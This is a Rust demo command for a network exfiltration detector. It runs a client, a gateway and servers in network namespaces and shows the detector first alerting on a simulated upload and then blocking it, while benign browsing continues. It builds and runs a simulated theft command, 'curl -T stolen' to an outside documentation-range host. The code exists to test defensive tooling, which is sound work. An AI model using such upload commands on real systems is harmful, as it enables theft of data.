//! `cargo xtask demo`: detects an upload, then blocks one, for people to watch.
//!
//! Real programs between network namespaces of their own; no interface, route or address of the
//! machine is touched. Fails where an act did not do what it says.

mod scene;
mod text;
mod watch;

use std::path::Path;
use std::time::Duration;

use anyhow::{Context as _, Result, ensure};
use detector_tests::{remove_leftovers, remove_stale_scratch, require_root, run_checked};

use crate::release;
use crate::setup::{self, Profile};
use scene::{DROP_PORT, STOLEN_BYTES, Scene};
use watch::Watch;

const ALERT: Duration = Duration::from_secs(15);
const UPLOAD: Duration = Duration::from_secs(12);
/// An alert may trail the traffic that it is about by a poll.
const TRAILING: Duration = Duration::from_millis(1_500);

/// The verb.
pub(crate) fn run() -> Result<()> {
    require_root()?;
    setup::run(Profile::Demo)?;
    // As a developer's next `cargo build` has it, and without the dashboard, which nobody looks at
    // here.
    let program = release::debug_detector()?;
    remove_leftovers()?;
    remove_stale_scratch()?;
    text::say("Starting a client, a gateway and servers in network namespaces.");
    let scene = Scene::open()?;
    observe(&scene, &program).context("act 1 failed")?;
    block(&scene, &program).context("act 2 failed")?;
    drop(scene);
    let namespaces = run_checked(std::process::Command::new("ip").args(["netns", "list"]))?;
    let own = format!("det-{}-", std::process::id());
    ensure!(!namespaces.contains(&own), "a namespace was not removed: {namespaces}");
    text::say("\nEverything is removed again.");
    Ok(())
}

fn observe(scene: &Scene, program: &Path) -> Result<()> {
    const HOST: &str = "198.51.100.66";
    text::heading("Act 1: observe. The detector watches the gateway and blocks nothing.");
    let mut watch = Watch::start(program, scene, "observe")?;
    browse(scene, &mut watch)?;

    text::say(&format!(
        "\nThe client uploads {} to {HOST}, a host that is new to it.",
        text::bytes(STOLEN_BYTES)
    ));
    let mut upload = steal(scene, HOST, "first")?;
    watch.wait(&format!("-> {HOST}:{DROP_PORT}"), ALERT).context("no alert about the upload")?;
    let status = upload.wait(UPLOAD)?;
    ensure!(status.success(), "the upload failed: {}", upload.output());
    let received = scene.received("first")?;
    std::thread::sleep(TRAILING);
    watch.show();
    only_about(&watch, HOST)?;
    ensure!(
        received == STOLEN_BYTES,
        "{received} bytes arrived in mode observe, which must block nothing"
    );
    text::say(&format!(
        "The receiver got {}: the agent reported the upload and did not block it. {} had left \
         before the alert.",
        text::bytes(received),
        watch.leaked_before_alert()?
    ));
    watch.stop()
}

fn block(scene: &Scene, program: &Path) -> Result<()> {
    const HOST: &str = "198.51.100.77";
    text::heading("Act 2: block. The same upload again. The kernel drops its flow.");
    let mut watch = Watch::start(program, scene, "block")?;
    browse(scene, &mut watch)?;

    text::say(&format!("\nThe client uploads {} to {HOST}.", text::bytes(STOLEN_BYTES)));
    let mut upload = steal(scene, HOST, "second")?;
    watch.wait("blocked, after", ALERT).context("the upload was not blocked")?;
    let pages = ["http://news.example/page-120000", "http://www.example/picture-310000"];
    let fetched = scene.fetch(&pages).context("benign traffic did not pass")?;
    watch.show();
    text::say(&format!(
        "Meanwhile the client's downloads continue: {} arrived.",
        text::bytes(fetched)
    ));
    let status = upload.wait(UPLOAD)?;
    let received = scene.received("second")?;
    watch.show();
    only_about(&watch, HOST)?;
    ensure!(
        !status.success() && received < STOLEN_BYTES,
        "{received} bytes arrived although the flow was blocked"
    );
    text::say(&format!("curl gave up: {}", upload.output().trim()));
    text::say(&format!(
        "The receiver got {} of {}.",
        text::bytes(received),
        text::bytes(STOLEN_BYTES)
    ));
    text::say(&format!(
        "{} had left before the alert, {} before the first packet was dropped.",
        watch.leaked_before_alert()?,
        watch.leaked_before_block()?
    ));
    watch.stop()
}

/// A quarter of a working day in a few seconds; nothing of it may raise an alert.
fn browse(scene: &Scene, watch: &mut Watch) -> Result<()> {
    text::say("\nThe client reads pages, downloads a file, looks names up, pings.");
    let fetched = scene.browse()?;
    std::thread::sleep(TRAILING);
    watch.show();
    let alerts = watch.alerts();
    ensure!(alerts.is_empty(), "an alert on benign traffic: {}", alerts.join("\n"));
    text::say(&format!("{} arrived, no alert.", text::bytes(fetched)));
    Ok(())
}

fn steal(scene: &Scene, host: &str, name: &str) -> Result<detector_tests::Background> {
    text::command(&format!("curl -T stolen http://{host}:{DROP_PORT}/{name}"));
    scene.steal(host, name)
}

/// No alert may name another host.
fn only_about(watch: &Watch, host: &str) -> Result<()> {
    let others: Vec<String> =
        watch.alerts().into_iter().filter(|line| !line.contains(host)).collect();
    ensure!(others.is_empty(), "an alert on benign traffic: {}", others.join("\n"));
    Ok(())
}
